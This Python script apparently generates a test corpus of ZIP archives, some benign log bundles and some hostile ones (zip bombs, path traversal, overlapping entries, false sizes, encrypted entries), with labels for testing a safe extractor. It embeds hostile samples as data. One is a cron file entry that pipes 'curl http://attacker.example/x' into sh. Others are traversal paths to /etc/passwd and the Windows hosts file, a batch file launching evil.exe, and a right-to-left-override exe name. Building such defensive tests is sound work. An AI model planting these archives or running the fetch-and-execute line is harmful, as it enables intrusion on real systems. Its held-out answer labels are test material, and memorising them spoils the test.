"""Make the ZIP corpus: archives users attach (logs, support bundles) and hostile ones (bombs,
too many entries, nesting, path traversal, encryption, lying sizes) in zips/{train,heldout}/,
with labels.json.

    python -m tests.intake.corpus.make_zips

Labels per file: `refused` (a word the refusal must contain, or null), `entries` (the count
the archive declares), `listed` (entries listed with the default Limits), `text_contains` /
`text_excludes` (strings that must / must not be in the text read), `names` (entry names that
must be listed, nested ones as `outer.zip!/inner`), `encrypted` (names listed as encrypted).
The held-out part was written before the extractor, with other contents and other tricks.
"""

# ruff: noqa: E501 (corpus data: long lines are what users paste)

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent / "zips"
DATE = (2026, 11, 20, 14, 30, 0)

PY_TRACE = """2026-11-20 14:02:11,877 ERROR [worker-3] job failed
Traceback (most recent call last):
  File "/srv/app/billing/jobs.py", line 51, in run
    invoice = build_invoice(order)
  File "/srv/app/billing/invoice.py", line 118, in build_invoice
    rate = TAX_RATES[order.country]
KeyError: 'XK'
2026-11-20 14:02:12,004 INFO [worker-3] retrying in 30s
"""
JAVA_TRACE = """2026-11-20T14:05:00.412Z ERROR 1 --- [nio-8080-exec-7] o.a.c.c.C.[.[.[/].[dispatcherServlet]
java.lang.IllegalStateException: Cart 7781 is already checked out
\tat com.shop.cart.CartService.checkout(CartService.java:212)
\tat com.shop.cart.CartController.pay(CartController.java:64)
\tat java.base/java.lang.Thread.run(Thread.java:1583)
"""
GO_PANIC = """Nov 20 14:10:31 edge-7 sync-agent[812]: panic: runtime error: index out of range [5] with length 5
Nov 20 14:10:31 edge-7 sync-agent[812]: goroutine 41 [running]:
Nov 20 14:10:31 edge-7 sync-agent[812]: main.(*Queue).pop(...)
Nov 20 14:10:31 edge-7 sync-agent[812]:         /build/agent/queue.go:77 +0x1d4
"""
DOTNET_TRACE = """Unhandled exception. System.InvalidOperationException: Sequence contains no elements
   at System.Linq.ThrowHelper.ThrowNoElementsException()
   at Ledger.Reports.MonthEnd.Close(Int32 month) in C:\\src\\Ledger\\Reports\\MonthEnd.cs:line 93
"""


def _zip(entries: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as z:
        for name, data in entries:
            z.writestr(zipfile.ZipInfo(name, DATE), data, compress_type=method)
    return buffer.getvalue()


def _zipcrypto(data: bytes, password: bytes, check: int) -> bytes:
    """Traditional PKWARE encryption (what `zip -P` writes): a 12-byte header, then the
    data, each byte XORed with a keystream."""
    keys = [0x12345678, 0x23456789, 0x34567890]

    def crc(value: int, byte: int) -> int:
        return zlib.crc32(bytes([byte]), value ^ 0xFFFFFFFF) ^ 0xFFFFFFFF

    def update(byte: int) -> None:
        keys[0] = crc(keys[0], byte)
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = crc(keys[2], keys[1] >> 24)

    def stream_byte() -> int:
        temp = (keys[2] | 2) & 0xFFFF
        return ((temp * (temp ^ 1)) >> 8) & 0xFF

    for byte in password:
        update(byte)
    out = bytearray()
    for plain in bytes(range(11)) + bytes([check]) + data:
        out.append(plain ^ stream_byte())
        update(plain)
    return bytes(out)


def _raw_zip(entries: list[dict[str, object]]) -> bytes:
    """A ZIP written field by field, for what zipfile will not write: encrypted entries,
    sizes that lie, entries that share their data."""
    body, central = bytearray(), bytearray()
    offsets: dict[str, int] = {}
    for e in entries:
        name = str(e["name"]).encode()
        data = bytes(e["data"])  # type: ignore[arg-type]
        flags, method = int(e.get("flags", 0)), int(e.get("method", 0))  # type: ignore[call-overload]
        crc, usize = int(e["crc"]), int(e["usize"])  # type: ignore[call-overload]
        share = e.get("share")
        if share is None:
            offsets[str(e["name"])] = len(body)
            body += struct.pack(
                "<IHHHHHIIIHH",
                0x04034B50,
                20,
                flags,
                method,
                0,
                0x5B74,
                crc,
                len(data),
                usize,
                len(name),
                0,
            )
            body += name + data
        offset = offsets[str(share if share is not None else e["name"])]
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            flags,
            method,
            0,
            0x5B74,
            crc,
            len(data),
            usize,
            len(name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        central += name
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), len(body), 0
    )
    return bytes(body + central + end)


def _deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def train() -> dict[str, tuple[bytes, dict[str, object]]]:
    files: dict[str, tuple[bytes, dict[str, object]]] = {}
    png = bytes.fromhex("89504e470d0a1a0a") + bytes(range(256)) * 4
    files["normal.zip"] = (
        _zip(
            [
                (
                    "README.txt",
                    b"Export of the March reports.\nOpen data.csv with a spreadsheet.\n",
                ),
                ("config/app.yaml", b"region: eu-west-1\nworkers: 4\nqueue: reports\n"),
                ("data.csv", b"month,orders,revenue\n2026-03,1204,48210.50\n"),
                ("screenshot.png", png),
            ]
        ),
        {
            "refused": None,
            "entries": 4,
            "listed": 4,
            "text_contains": ["Export of the March reports", "workers: 4", "2026-03,1204"],
            "text_excludes": ["PNG"],
            "names": ["README.txt", "config/app.yaml", "screenshot.png"],
        },
    )
    files["logs_with_trace.zip"] = (
        _zip(
            [
                ("logs/app.log", PY_TRACE.encode() * 3),
                ("logs/api.log.1", JAVA_TRACE.encode()),
                ("logs/core.bin", bytes(range(256)) * 40),
            ]
        ),
        {
            "refused": None,
            "entries": 3,
            "listed": 3,
            "text_contains": [
                "KeyError: 'XK'",
                "java.lang.IllegalStateException",
                "logs/api.log.1",
            ],
            "text_excludes": [],
            "names": ["logs/app.log", "logs/core.bin"],
        },
    )
    files["bomb_ratio.zip"] = (
        _zip([("report.log", bytes(20 * 1024 * 1024))]),
        {
            "refused": "bomb",
            "entries": 1,
            "listed": 0,
            "text_contains": [],
            "text_excludes": [],
            "names": [],
        },
    )
    files["many_entries.zip"] = (
        _zip([(f"tiles/{i:05d}.txt", b"") for i in range(1500)], zipfile.ZIP_STORED),
        {
            "refused": None,
            "entries": 1500,
            "listed": 1000,
            "text_contains": [],
            "text_excludes": [],
            "names": ["tiles/00000.txt", "tiles/00999.txt"],
        },
    )
    deepest = _zip([("deepest.log", b"THIRD LEVEL must not be read\n")])
    inner = _zip([("logs/inner.log", PY_TRACE.encode()), ("deeper.zip", deepest)])
    files["nested.zip"] = (
        _zip([("bundle/inner.zip", inner), ("notes.txt", b"see the inner archive\n")]),
        {
            "refused": None,
            "entries": 2,
            "listed": 4,
            "text_contains": ["KeyError: 'XK'", "see the inner archive"],
            "text_excludes": ["THIRD LEVEL"],
            "names": [
                "bundle/inner.zip",
                "bundle/inner.zip!/logs/inner.log",
                "bundle/inner.zip!/deeper.zip",
            ],
        },
    )
    files["traversal.zip"] = (
        _zip(
            [
                ("../../etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n"),
                ("/etc/cron.d/evil", b"* * * * * root curl http://attacker.example/x | sh\n"),
                ("ok/readme.txt", b"harmless\n"),
            ]
        ),
        {
            "refused": None,
            "entries": 3,
            "listed": 3,
            "text_contains": ["harmless"],
            "text_excludes": [],
            "names": ["../../etc/passwd", "/etc/cron.d/evil"],
        },
    )
    secret = b"db password is hunter2\n"
    files["encrypted.zip"] = (
        _raw_zip(
            [
                {
                    "name": "secret.txt",
                    "flags": 1,
                    "data": _zipcrypto(secret, b"pw", zlib.crc32(secret) >> 24),
                    "crc": zlib.crc32(secret),
                    "usize": len(secret),
                },
                {
                    "name": "readme.txt",
                    "data": b"the other file is encrypted\n",
                    "crc": zlib.crc32(b"the other file is encrypted\n"),
                    "usize": 28,
                },
            ]
        ),
        {
            "refused": None,
            "entries": 2,
            "listed": 2,
            "text_contains": ["the other file is encrypted"],
            "text_excludes": ["hunter2"],
            "names": ["secret.txt", "readme.txt"],
            "encrypted": ["secret.txt"],
        },
    )
    return files


def heldout() -> dict[str, tuple[bytes, dict[str, object]]]:
    files: dict[str, tuple[bytes, dict[str, object]]] = {}
    previous = _zip([("agent/2026-11-19.log", DOTNET_TRACE.encode())])
    files["support_bundle.zip"] = (
        _zip(
            [
                ("diag/journal.txt", GO_PANIC.encode()),
                (
                    "diag/system_info.json",
                    b'{"os": "Debian 12", "agent": "3.4.1", "uptime_s": 86031}',
                ),
                ("diag/previous_bundle.zip", previous),
                ("diag/heap.pprof.gz", b"\x1f\x8b\x08\x00" + bytes(range(200, 256)) * 30),
            ]
        ),
        {
            "refused": None,
            "entries": 4,
            "listed": 5,
            "text_contains": [
                "panic: runtime error: index out of range",
                "Debian 12",
                "System.InvalidOperationException",
                "MonthEnd.cs:line 93",
            ],
            "text_excludes": [],
            "names": ["diag/previous_bundle.zip!/agent/2026-11-19.log", "diag/heap.pprof.gz"],
        },
    )
    kernel = _deflate(bytes(3 * 1024 * 1024))
    files["lying_sizes.zip"] = (
        _raw_zip([{"name": "server.log", "method": 8, "data": kernel, "crc": 0, "usize": 900}]),
        {
            "refused": "declared",
            "entries": 1,
            "listed": 0,
            "text_contains": [],
            "text_excludes": [],
            "names": [],
        },
    )
    text = (
        "".join(f"line {i}: nothing to see here, {i * 7919 % 10007}\n" for i in range(6000))
    ).encode()
    shared = _deflate(text)
    files["overlapping.zip"] = (
        _raw_zip(
            [
                {
                    "name": "part000.txt",
                    "method": 8,
                    "data": shared,
                    "crc": zlib.crc32(text),
                    "usize": len(text),
                }
            ]
            + [
                {
                    "name": f"part{i:03d}.txt",
                    "method": 8,
                    "data": shared,
                    "crc": zlib.crc32(text),
                    "usize": len(text),
                    "share": "part000.txt",
                }
                for i in range(1, 250)
            ]
        ),
        {
            "refused": "overlap",
            "entries": 250,
            "listed": 0,
            "text_contains": [],
            "text_excludes": [],
            "names": [],
        },
    )
    files["many_small_zeros.zip"] = (
        _zip([(f"cache/{i:04d}.dat", bytes(900 * 1024)) for i in range(80)]),
        {
            "refused": "bomb",
            "entries": 80,
            "listed": 0,
            "text_contains": [],
            "text_excludes": [],
            "names": [],
        },
    )
    files["deep_tree.zip"] = (
        _zip([(f"a/b/c/d/{i:04d}/file.txt", b"x") for i in range(1200)], zipfile.ZIP_STORED),
        {
            "refused": None,
            "entries": 1200,
            "listed": 1000,
            "text_contains": [],
            "text_excludes": [],
            "names": ["a/b/c/d/0000/file.txt"],
        },
    )
    files["windows_names.zip"] = (
        _zip(
            [
                ("..\\..\\Windows\\System32\\drivers\\etc\\hosts", b"127.0.0.1 bank.example\n"),
                ("C:\\Users\\Public\\run.bat", b"@echo off\r\nstart evil.exe\r\n"),
                ("invoice\u202efdp.exe", b"MZ\x90\x00" + bytes(300)),
                ("r\u00e9sum\u00e9/notes.txt", "caf\u00e9 cr\u00e8me\n".encode()),
            ]
        ),
        {
            "refused": None,
            "entries": 4,
            "listed": 4,
            "text_contains": ["caf\u00e9 cr\u00e8me", "bank.example"],
            "text_excludes": ["MZ"],
            "names": ["C:\\Users\\Public\\run.bat", "r\u00e9sum\u00e9/notes.txt"],
        },
    )
    plain = b"password for the archive is in the ticket\n"
    body = b"AES data would be here"
    files["encrypted_mixed.zip"] = (
        _raw_zip(
            [
                {
                    "name": "keys/prod.env",
                    "flags": 1,
                    "data": _zipcrypto(b"TOKEN=abc\n", b"s3", zlib.crc32(b"TOKEN=abc\n") >> 24),
                    "crc": zlib.crc32(b"TOKEN=abc\n"),
                    "usize": 10,
                },
                {
                    "name": "keys/aes.env",
                    "flags": 1,
                    "method": 99,
                    "data": body,
                    "crc": 0,
                    "usize": 40,
                },
                {"name": "HOWTO.txt", "data": plain, "crc": zlib.crc32(plain), "usize": len(plain)},
            ]
        ),
        {
            "refused": None,
            "entries": 3,
            "listed": 3,
            "text_contains": ["password for the archive"],
            "text_excludes": ["TOKEN=abc"],
            "names": ["keys/prod.env", "keys/aes.env"],
            "encrypted": ["keys/prod.env", "keys/aes.env"],
        },
    )
    utf16 = ("\ufeff" + DOTNET_TRACE).encode("utf-16-le")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr(zipfile.ZipInfo("EventLog.txt", DATE), utf16, zipfile.ZIP_DEFLATED)
        z.writestr(zipfile.ZipInfo("stdout", DATE), JAVA_TRACE.encode(), zipfile.ZIP_BZIP2)
        z.writestr(zipfile.ZipInfo("metrics.lzma", DATE), b"cpu=93 mem=71\n", zipfile.ZIP_LZMA)
        info = zipfile.ZipInfo("big/trace.log", DATE)
        with z.open(info, "w", force_zip64=True) as f:
            f.write(PY_TRACE.encode())
    files["mixed_methods.zip"] = (
        buffer.getvalue(),
        {
            "refused": None,
            "entries": 4,
            "listed": 4,
            "text_contains": [
                "Sequence contains no elements",
                "Cart 7781 is already checked out",
                "KeyError: 'XK'",
            ],
            "text_excludes": [],
            "names": ["stdout", "metrics.lzma", "big/trace.log"],
        },
    )
    return files


def main() -> None:
    for split, files in (("train", train()), ("heldout", heldout())):
        out = HERE / split
        out.mkdir(parents=True, exist_ok=True)
        for old in out.iterdir():
            old.unlink()
        labels = {}
        for name, (data, label) in files.items():
            (out / name).write_bytes(data)
            labels[name] = label
        (out / "labels.json").write_text(json.dumps(labels, indent=1, ensure_ascii=False) + "\n")
        print(split, len(files), "archives", sum(len(d) for d, _ in files.values()), "bytes")


if __name__ == "__main__":
    main()
